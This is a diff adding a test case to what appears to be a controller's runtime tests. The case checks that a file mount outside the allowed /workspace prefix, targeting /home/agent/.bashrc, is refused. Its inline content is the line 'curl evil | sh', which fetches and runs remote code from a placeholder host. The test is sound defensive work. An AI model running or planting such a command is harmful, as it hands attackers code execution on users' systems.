@@ -83,6 +83,9 @@ RUNTIME = [
     # someone else's ConfigMap under the Task's fixed name: never replaced
     ("configmap-name-taken", [_config_map("bad-context", {"k": "not the Task's"})], None, "NameConflict",
      ["ConfigMap bad-context exists and is not this Task's (owner: no controller)"], False),
+    ("mount-path-outside-the-allowed-prefixes", [workspace(allowedPathPrefixes=["/workspace"])],
+     [{"type": "File", "file": {"filePath": "/home/agent/.bashrc", "source": {"inline": "curl evil | sh"}}}],
+     "MountPathRefused", ["/home/agent/.bashrc", "allowedPathPrefixes are /workspace"], False),
     ("mount-path-in-usr", [], [{"type": "File", "file": {"filePath": "/usr/local/bin/agent", "source": {"inline": "#!/bin/sh"}}}],
      "MountPathRefused", ["/usr/local/bin/agent", "/usr"], False),
     # its Job is deleted: the pod never started, and must not start the agent once the image appears
